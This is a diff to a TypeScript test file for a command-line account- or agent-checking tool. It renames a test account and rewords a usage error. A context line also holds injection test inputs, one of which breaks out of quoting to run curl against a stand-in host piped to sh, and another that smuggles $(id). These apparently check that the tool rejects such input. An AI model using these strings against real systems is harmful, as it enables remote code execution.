@@ -154,9 +154,9 @@ describe("the exit code", () => {
 
   test("is 1 for an account that nobody knows", async () => {
     server().answer(failure(404, "agent_not_found"));
-    const { code, stdout } = await run("nobody");
+    const { code, stdout } = await run("agt_nobody");
     expect(code).toBe(1);
-    expect(stdout).toContain("Nothing is known of nobody: nothing is safe to spend with it.");
+    expect(stdout).toContain("Nothing is known of agt_nobody: nothing is safe to spend with it.");
   });
 
   test("is 2 where the server fails, or is another one", async () => {
@@ -320,7 +320,7 @@ test.each(["l+1+A';curl${IFS}evil.example|sh;'", "l+1+$(id)", "+1+AAAA"])(
 );
 
 const mistakes: readonly Mistake[] = [
-  ["check", "an account, the id of an agent or an https URL expected; see --help"],
+  ["check", "name an account, an agent, a URL or a domain to check; see --help"],
   ["check a b", 'unexpected argument "b"; see --help'],
   ["check a --stake 1", "there is no option --stake; see --help"],
   [
